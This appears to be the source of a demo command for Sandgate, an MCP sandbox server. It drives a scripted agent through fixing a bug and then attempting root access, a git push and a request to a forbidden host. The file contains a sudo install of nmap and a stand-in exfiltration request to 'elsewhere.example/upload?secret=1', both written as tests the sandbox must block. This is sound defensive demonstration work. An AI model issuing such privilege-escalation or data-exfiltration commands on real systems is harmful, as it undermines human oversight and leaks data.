"""`sandgate demo`: an agent's session against the real server over stdio, each step with what was expected of it."""

import argparse
import json
import os
import re
import shutil
import sys
import tempfile
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import wrap
from typing import IO, Any

import anyio
from mcp import Client
from mcp.client.stdio import StdioServerParameters, stdio_client
from mcp.types import CallToolResult, TextContent
from rich.console import Console
from rich.text import Text

from server.judge.approvals import Approvals, NoSuchApproval
from server.ops.demo_origin import HOST, Origin, serving
from server.record.approval_rows import ApprovalRows
from server.record.reading import lines, verify
from server.sandbox.engine import find_engine
from server.sandbox.image_build import require
from server.sandbox.sandbox import USER_ID
from server.settings.files import PREFIX, load
from server.settings.settings import ENVIRON, HOME, Settings
from server.shipped import shipped

EXAMPLE = "examples/shop"
SHOWN_LINES = 8
WIDE = 112  # columns of a line that an agent reads as one
MOST_ROWS = 3  # of such a line
BEYOND = 1 << 40  # bytes, of any output
FORBIDDEN_HOST = "elsewhere.example"

INTRODUCTION = """\
What an AI agent does with Sandgate, in about 15 seconds: it finds and mends a mistake in a small Python project, then
asks for root, for a push and for the network. No model is needed: the calls are fixed; the server, the sandbox, the
rules, the gate and the record are the real ones. Each answer is compared with what is expected of it.

Nothing needs root and nothing leaves this machine. The project is a copy, which is removed; the record of the session
goes into your audit, as that of any other.

    ~  what a command prints while it runs
    |  what the agent is answered
    !  what the server tells you, its owner: here the demo loosens some things for itself, and each is said
"""

NEXT = """\
What next?

    {sandgate} doctor               what this machine can hold a sandbox to, tried in a real one
    {sandgate} init                 three questions, then settings of your own
    {sandgate} install claude-code  plug it in; `{sandgate} install --help` names the other clients
    {sandgate} audit tail           the newest lines of the record
"""


@dataclass(frozen=True, slots=True)
class Step:
    """One call, the sentence a person reads, and whether its answer is the expected one."""

    title: str
    tool: str
    arguments: dict[str, Any]
    expected: str
    holds: Callable[[CallToolResult, str], bool]


@dataclass
class Tally:
    console: Console
    told: IO[str]  # what the server says to its owner
    expected: int = 0
    total: int = 0
    decisions: dict[str, str] = field(default_factory=dict)
    asked: str = ""  # the question that is put to a person

    def count(self, *, holds: bool) -> None:
        self.total += 1
        self.expected += holds


def demo(_: argparse.Namespace) -> int:
    console = Console(highlight=False, soft_wrap=True)
    engine = find_engine(ENVIRON, HOME, load().state_dir)
    require(engine.url, load().environment)
    console.print(INTRODUCTION, markup=False)
    with tempfile.TemporaryDirectory(prefix="sandgate-demo-") as folder, tempfile.NamedTemporaryFile("w+") as told:
        tally = Tally(console, told)
        project = _project(Path(folder))
        with serving(Path(folder)) as origin:
            config = _config(Path(folder), origin)
            try:
                anyio.run(_session, tally, project, config, origin, environment(load(), Path(folder)))
            finally:
                _show_told(tally)
    _check_chain(tally)
    if tally.expected == tally.total:
        console.print(NEXT.format(sandgate=called()), markup=False)
    console.print(f"demo: {tally.expected} of {tally.total} as expected")
    return 0 if tally.expected == tally.total else 1


def called() -> str:
    """How a person who stands here calls this program."""
    program = Path(sys.argv[0]).absolute()
    if shutil.which("sandgate") == str(program):
        return "sandgate"
    return str(program.relative_to(Path.cwd()) if program.is_relative_to(Path.cwd()) else program)


def _project(folder: Path) -> Path:
    """A copy of the example that belongs to whoever sandboxes run as: root's folders are not lent."""
    folder.chmod(0o755)
    project = folder / "shop"
    shutil.copytree(shipped(EXAMPLE), project, ignore=shutil.ignore_patterns("__pycache__", ".pytest_cache"))
    if os.geteuid() == 0:
        for path in (project, *project.rglob("*")):
            os.chown(path, USER_ID, USER_ID)
    return project


def _config(folder: Path, origin: Origin) -> Path:
    config = folder / "sandgate.toml"
    config.write_text(
        f'[egress]\nallow = ["{HOST}:{origin.port}"]\nresolve = {{"{HOST}" = "127.0.0.1"}}\n'
        f'networks = ["127.0.0.1/32"]\nupstream_ca = "{origin.certificate}"\n'
    )
    return config


def environment(settings: Settings, folder: Path) -> dict[str, str]:
    """What the demo's server starts with: where the user's own keeps its state, and none of what the user's own allows.

    With a `git push` that needs no question, or a strict profile, half of what is shown would come out otherwise.
    """
    kept = {name: value for name, value in ENVIRON.items() if not name.startswith(PREFIX)}
    state, runtime = str(settings.state_dir), str(settings.runtime_dir)
    places = {f"{PREFIX}STATE_DIR": state, f"{PREFIX}RUNTIME_DIR": runtime}
    return {**kept, "XDG_CONFIG_HOME": str(folder / "config"), **places}


async def _session(tally: Tally, project: Path, config: Path, origin: Origin, environ: dict[str, str]) -> None:
    program = [*_program(), "serve", "--stdio", "--config", str(config), "--workspace", f"{project}:rw"]
    server = StdioServerParameters(command=program[0], args=program[1:], env=environ)
    # Opened once more: who reads and who writes each have a place in it of their own.
    with Path(tally.told.name).open("a") as told:  # noqa: ASYNC230 - a file in memory
        client = Client(stdio_client(server, errlog=told))
        await _work(tally, client, _steps(project, origin))


async def _work(tally: Tally, client: Client, steps: list[Step]) -> None:
    started = time.monotonic()
    async with client:
        tools = await client.list_tools()
        tally.console.print(
            f"[dim]server up after {time.monotonic() - started:.1f} s, protocol {client.protocol_version}, "
            f"{len(tools.tools)} tools[/]"
        )
        _show_told(tally)
        tally.console.print()
        for step in steps:
            await _take(tally, client, step)
        await _show_record(tally)
        await client.call_tool("session_close", {"session": "default"})  # nobody has to wonder later what it was
        _take_back(tally)


def _take_back(tally: Tally) -> None:
    """What it asked a person is answered with no, so that it does not wait among the person's own."""
    settings = load()
    people = Approvals(ApprovalRows(settings.database), settings.approvals.pending_s)
    with suppress(NoSuchApproval):  # somebody has answered it
        if tally.asked:
            people.answer_now(tally.asked, yes=False, by="the demo")


def _program() -> list[str]:
    """The console script that this process was started as."""
    return [sys.executable, "-P", str(Path(sys.argv[0]).resolve())]


def _steps(project: Path, origin: Origin) -> list[Step]:
    cart = f"{project}/shop/cart.py"
    return [
        Step(
            "The project's tests, to see what is wrong",
            "shell",
            {"command": "python -m pytest -q"},
            "two of four fail",
            lambda result, text: _exit(result, text) == 1 and "2 failed, 2 passed" in text,
        ),
        Step(
            "Where the discount is computed",
            "file_search",
            {"pattern": "discount_percent //", "glob": "*.py"},
            "the line in cart.py is found, with what is around it",
            lambda _, text: "shop/cart.py" in text,
        ),
        Step(
            "The file itself",
            "file_read",
            {"path": cart, "offset": 13, "limit": 6},
            "six lines of it",
            lambda _, text: "// 10\n" in text and "lines 13-18 of 18" in text,
        ),
        Step(
            "The mistake, mended: a percentage is a hundredth",
            "file_edit",
            {"path": cart, "old": "discount_percent // 10\n", "new": "discount_percent // 100\n"},
            "a diff of one line",
            lambda _, text: "// 100" in text and text.count("\n+") >= 1,
        ),
        Step(
            "The tests again, one by one",
            "shell",
            {"command": "for test in sum percent full negative; do python -m pytest -q -k $test | tail -1; done"},
            "all four pass, each told as it ends",
            lambda result, text: _exit(result, text) == 0 and text.count("1 passed") == 4,  # noqa: PLR2004 - four tests
        ),
        Step(
            "A new file",
            "file_write",
            {"path": "NOTES.md", "content": "A discount is in percent.\n"},
            "it is created",
            lambda _, text: text.startswith("created"),
        ),
        Step(
            "What the sandbox sees of a network",
            "exec",
            {"argv": ["ls", "/sys/class/net"]},
            "loopback and nothing else",
            lambda result, text: _exit(result, text) == 0 and text.strip() == "lo",
        ),
        Step(
            "Root, please?",
            "shell",
            {"command": "echo ok && sudo apt-get install -y nmap"},
            "refused before anything runs, with the rule",
            lambda result, text: result.is_error is True and "privilege.tools" in text,
        ),
        Step(
            "A push to somewhere else",
            "shell",
            {"command": "git push origin main"},
            "a person is asked first",
            lambda result, text: result.is_error is True and "approval" in text and "sandgate allow" in text,
        ),
        Step(
            "An allowed host",
            "shell",
            {"command": f"curl -sS {origin.url}"},
            "its page comes through the gate",
            lambda result, text: _exit(result, text) == 0 and "the one host" in text,
        ),
        Step(
            "Any other host",
            "exec",
            {"argv": ["python3", "-c", _fetch(f"https://{FORBIDDEN_HOST}/upload?secret=1")]},
            "403 with the reason, and the result says who refused",
            lambda result, text: (
                "egress.not_allowed" in text and "the gate refused" in text and _exit(result, text) == 0
            ),
        ),
    ]


def _fetch(url: str) -> str:
    """A program that no parser reads: the gate has to hold by itself."""
    return (
        "import urllib.request, urllib.error\n"
        f"try: print(urllib.request.urlopen({url!r}).read())\n"
        "except urllib.error.HTTPError as error: print(error.code, error.read().decode())"
    )


def _exit(result: CallToolResult, text: str) -> int | None:
    """Of a job that outlasted its call, by what was read of its end."""
    late = re.search(r"\bjob j\d+ exited with (\d+);", text)
    code = int(late[1]) if late else (result.structured_content or {}).get("exit_code")
    return code if isinstance(code, int) else None


def _text(result: CallToolResult) -> str:
    return "\n".join(part.text for part in result.content if isinstance(part, TextContent))


async def _to_its_end(client: Client, job: str) -> str:
    """What a job says that outlasts its call, as on a busy machine: all of it, once it is over."""
    while True:
        past_all = {"job": job, "offset": BEYOND, "wait_s": 45}  # so that only the end is waited for
        if f"job {job} running;" not in _text(await client.call_tool("job_output", past_all)):
            return _text(await client.call_tool("job_output", {"job": job}))


async def _take(tally: Tally, client: Client, step: Step) -> None:
    """Call, show what came as it came, and say whether it is what was expected."""
    console = tally.console
    console.print(f"[bold]{tally.total + 1:2}. {step.title}[/]")
    console.print(Text(f"    {step.tool} {_brief(step.arguments)}", style="cyan"))
    streamed: list[str] = []

    async def heard(progress: float, total: float | None, message: str | None) -> None:  # noqa: ARG001 - the SDK's names
        streamed.extend((message or "").splitlines())
        for line in list(filter(None, (message or "").splitlines()))[-SHOWN_LINES:]:
            console.print(Text(_rows("~", line), style="dim"))

    result = await client.call_tool(step.tool, step.arguments, progress_callback=heard)
    said, text = result.structured_content or {}, _text(result)
    if said.get("status") == "running":
        text = await _to_its_end(client, str(said["job"]))
    fresh = [line for line in text.splitlines() if line not in streamed]
    for line in fresh if len(fresh) <= SHOWN_LINES else [*fresh[:2], "...", *fresh[2 - SHOWN_LINES :]]:
        console.print(Text(_rows("|", line)))
    holds = step.holds(result, text)
    tally.count(holds=holds)
    tally.decisions[step.title] = str(said.get("decision_id", ""))
    tally.asked = str((said.get("approval") or {}).get("id", "")) or tally.asked
    mark = "[green]as expected[/]" if holds else "[red]NOT as expected[/]"
    _show_told(tally)
    console.print(f"    {mark}: {step.expected}\n")


def _rows(mark: str, line: str) -> str:
    """One line as a terminal shows it whole; what a person need not read to its end is cut, and that is seen."""
    rows = wrap(line, WIDE, max_lines=MOST_ROWS, placeholder=" ...") or [""]
    return "\n".join(f"    {mark} {row}".rstrip() for row in rows)


def _show_told(tally: Tally) -> None:
    """What the server has said to its owner since this was last asked."""
    for line in tally.told.read().splitlines():
        tally.console.print(Text(_rows("!", line.removeprefix("sandgate: ")), style="yellow"))


def _brief(arguments: dict[str, Any]) -> str:
    text = json.dumps(arguments, ensure_ascii=False)
    return text if len(text) <= 110 else f"{text[:107]}..."  # noqa: PLR2004 - a line of a terminal


async def _show_record(tally: Tally) -> None:
    """One decision, from its first line to its last, with the flow that it caused."""
    decision = tally.decisions["An allowed host"]
    wanted = {"call.started", "call.decided", "egress.flow", "sandbox.job_ended", "call.ended"}
    tally.console.print(f"[bold]{tally.total + 1:2}. The record that joins them: sandgate audit show {decision}[/]")
    found: list[dict[str, Any]] = []
    with anyio.move_on_after(5):
        while not wanted <= {line["kind"] for line in found}:
            await anyio.sleep(0.1)
            found = [line for _, line in lines(load().audit_file) if line.get("decision_id") == decision]
    for line in found:
        kept = ("effect", "host", "status", "outcome", "exit_code")
        brief: dict[str, Any] = {name: line[name] for name in kept if name in line}
        tally.console.print(Text(f"    | {line['time'][11:23]} {line['kind']:18} {_brief(brief)}"))
    holds = wanted <= {line["kind"] for line in found}
    tally.count(holds=holds)
    mark = "[green]as expected[/]" if holds else "[red]NOT as expected[/]"
    tally.console.print(f"    {mark}: call, decision, flow and end under one id\n")


def _check_chain(tally: Tally) -> None:
    tally.console.print(f"[bold]{tally.total + 1:2}. Is the audit whole? sandgate audit verify[/]")
    found = verify(load().audit_file)
    tally.count(holds=found.count > 0)
    tally.console.print(f"    | {found.count} lines, an unbroken chain; its head is {found.head.digest[:16]}...")
    tally.console.print("    [green]as expected[/]: no line is missing or changed\n")
